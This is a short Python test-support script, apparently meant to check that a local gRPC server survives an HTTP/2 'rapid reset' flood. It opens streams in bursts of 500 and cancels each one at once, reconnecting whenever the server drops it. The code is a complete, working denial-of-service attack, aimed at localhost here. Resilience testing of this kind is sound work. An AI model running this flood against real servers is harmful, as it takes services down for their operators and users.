"""Open streams on a gRPC port and reset them at once: `python -m tests.support.rapid_reset PORT SECONDS`."""

import socket
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes.fromhex("000000040000000000")
HEADERS, RST_STREAM = 1, 3
END_HEADERS = 4
CANCEL = 8
BURST = 500
LAST_STREAM = (1 << 31) - 3


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Write an HTTP/2 frame."""
    return len(payload).to_bytes(3, "big") + struct.pack(">BBI", kind, flags, stream) + payload


def burst(first: int, block: bytes) -> bytes:
    """Open and reset several streams."""
    reset = struct.pack(">I", CANCEL)
    streams = range(first, first + 2 * BURST, 2)
    return b"".join(
        frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, reset) for stream in streams
    )


def attack(port: int, seconds: float) -> int:
    """Go on for so long, connecting again whenever hung up on; give the number of streams."""
    until, opened = time.monotonic() + seconds, 0
    while time.monotonic() < until:
        try:
            opened += _once(port, until)
        except OSError:
            continue
    return opened


def _once(port: int, until: float) -> int:
    names = [(":method", "POST"), (":scheme", "http"), (":path", "/" + "x" * 30), (":authority", "localhost")]
    block = hpack.Encoder().encode([*names, ("content-type", "application/grpc"), ("te", "trailers")])
    stream = 1
    with socket.create_connection(("127.0.0.1", port), timeout=2) as connection:
        connection.sendall(PREFACE)
        while time.monotonic() < until and stream < LAST_STREAM:
            connection.sendall(burst(stream, block))
            stream += 2 * BURST
            connection.setblocking(False)
            try:
                if not connection.recv(1 << 16):
                    break
            except BlockingIOError:
                pass
            connection.settimeout(2)
    return stream // 2


if __name__ == "__main__":
    print(attack(int(sys.argv[1]), float(sys.argv[2])))  # noqa: T201  the program's answer
